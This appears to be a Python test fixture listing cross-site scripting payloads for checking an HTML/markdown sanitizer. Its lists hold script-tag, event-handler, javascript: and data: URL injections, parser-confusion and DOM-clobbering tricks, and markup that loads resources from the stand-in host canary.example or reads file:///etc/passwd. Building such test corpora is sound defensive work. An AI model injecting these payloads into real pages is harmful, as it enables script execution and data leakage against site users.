"""Texts that become a program where a page shows its input as markup. Each would call alert(), fetch the host canary.example, or replace
something that the page relies on. § is the place for another text.
"""

HTML = [
    "<script>alert(1)</script>", "<script src=https://canary.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "</textarea></title><SCRIPT>alert`1`</SCRIPT >",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>", "<!DOCTYPE html>", "<img src=x onerror\n=\nalert(1)>",
    "<img/src/onerror=alert(1)>", "<img src=https://canary.example/i.png srcset='https://canary.example/i.png 2x'>",
    '<img src="x` `<script>alert(1)</script>"` `>', "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src=javascript:alert(1)></iframe><iframe src=https://canary.example/></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=https://canary.example/x.swf>",
    "<video poster=https://canary.example/p.png><source onerror=alert(1)></video>",
    "<body onload=alert(1) background=https://canary.example/b.png>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0;background:url(https://canary.example/c.png)>x</div>",
    "<style>@import 'https://canary.example/s.css'; body { display: none }</style>",
    "<link rel=stylesheet href=https://canary.example/s.css>",
    "<meta http-equiv=refresh content='0;url=https://canary.example/'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">', "<base href=https://canary.example/>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href=https://canary.example/ ping=https://canary.example/ping>x</a>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>", "<x contenteditable onblur=alert(1)>x</x>",
    "<template><script>alert(1)</script></template>", "<div popover id=toasts>x</div>",
    "<form id=page><input name=children></form><img name=getElementById>",
    "<a id=announcer></a><a id=announcer name=textContent></a>", "<div id=__proto__>x</div>", "</p><b onclick=alert(1)>",
    "<<script>alert(1)//<</script>",
]  # fmt: skip

_TEXTS = [
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "'\"><script>alert(1)</script>", "`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}", "javascript:alert(1)", "\u202e<script>alert(1)</script>",
    "a\u200b<script\ufffd>alert(1)</script>",
]  # fmt: skip

# None of them is a link.
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript&colon;alert(1)", "javascript&#58;alert(1)", "java&NewLine;script:alert(1)",
    "\x01javascript:alert(1)", "\\javascript:alert(1)", "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "\u200bjavascript:alert(1)",
    "\uff4aavascript:alert(1)", "\u2028javascript:alert(1)", "javascript://canary.example/%0Aalert(1)", "javascript:",
    "javascript:/*--></title>*/alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:canary.example", "file:///etc/passwd", "about:blank", "ftp://canary.example/", "ws://canary.example",
    "view-source:http:canary.example", "feed:javascript:alert(1)", "intent://canary.example/", "//canary.example/x",
    "/\\canary.example", "\\\\canary.example", "#x", "?x", "./x", "/x", "http:", "http:/x", "http:canary.example/",
    "https:\\\\canary.example\\", "http:///canary.example", "http://good.example@canary.example/",
    "http://good.example:pw@canary.example/", "http://good.example\\@canary.example/", "http://canary%2eexample/",
    "http://ca&#x6E;ary.\u202eexample/", "http://\u0435xample.com/", "http://example\u3002com/", "http://a\u2044b.c/",
    "http://[javascript]/", "http://-", "http://a b/", "http://", "mailto:", "mailto:a", "mailto:@b.c", "mailto:a@",
    "mailto:a@b.c/d", "http\x7f://a.b/", "h\u00a0ttp://a.b/", " \u2028http//", "__proto__:x", "constructor",
]  # fmt: skip
LINKS = [
    "[x](§)", "[x](<§>)", "[x](§ 'title')", "![x](§)", "![x](<§> \"t\")", "[![x](§)](§)", "<§>", "[x]: §\n\n[x]",
    "[x]: <§>\n\n![x][x]", "# [x](§)", "- [x](§)", "> [x](§)", "|[x](§)|\n|-|\n|![x](§)|", "***[__[x](§)__](§)***",
    "[x](§\n)", "[`x`](§)", "[[x]](§)",
]  # fmt: skip
PLACES = [
    "§", "a § b", "# §", "- §", "> §\n> > §", "|a|\n|-|\n|§|", "*§*", "~~§~~", "`§`", "```§\nx\n```", "~~~ §\n§\n~~~", "    §",
    "[§](http://a.b)", "[x](http://a.b '§')", "![§](http://a.b)", "$§$", "$$\n§\n$$", "\\text{§}", "$\\text{§}$", "$\\href{§}{x}$",
    "§\n===", "1. [x] §", "[x]: http://a.b '§'", "{#§} {.§}", ":::§\nx\n:::", "---\ntitle: §\n---", "[^1]\n\n[^1]: §",
]  # fmt: skip

_MARKDOWN = [
    "```js onload=alert(1)\nalert(1)\n```", "```__proto__\nx\n```", "```constructor\nx\n```",
    "| a |\n|:-:|\n| `|` <svg onload=alert(1)> |", "1. <script>\n2. alert(1)\n3. </script>",
    "$\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)}$", "$$\\text{</mtext></math><img src=x onerror=alert(1)>}$$",
    "$\\style{background:url(https://canary.example/m)}{x}$", '$\\class{x" onload="alert(1)}{y}$',
    "\\[ \\unicode{x3c}script\\unicode{x3e} \\]", "$\\includegraphics{https://canary.example/m.png}$",
    'https://canary.example/"onmouseover=alert(1)', "www.canary.example/<script>alert(1)</script>",
    "mailto:a@b.example?subject=<script>alert(1)</script>", '[x](https://example.org "\'onmouseover=alert(1)")',
    "![shown](https://canary.example/x.png) <https://canary.example/\u202egnp.exe>", "\\<script\\>alert(1)\\</script\\>",
]  # fmt: skip

PAYLOADS = [
    *HTML,
    *_TEXTS,
    *_MARKDOWN,
    *(place.replace("§", HTML[0]) for place in PLACES),
    *(LINKS[number % len(LINKS)].replace("§", address) for number, address in enumerate(ADDRESSES * 2)),
]
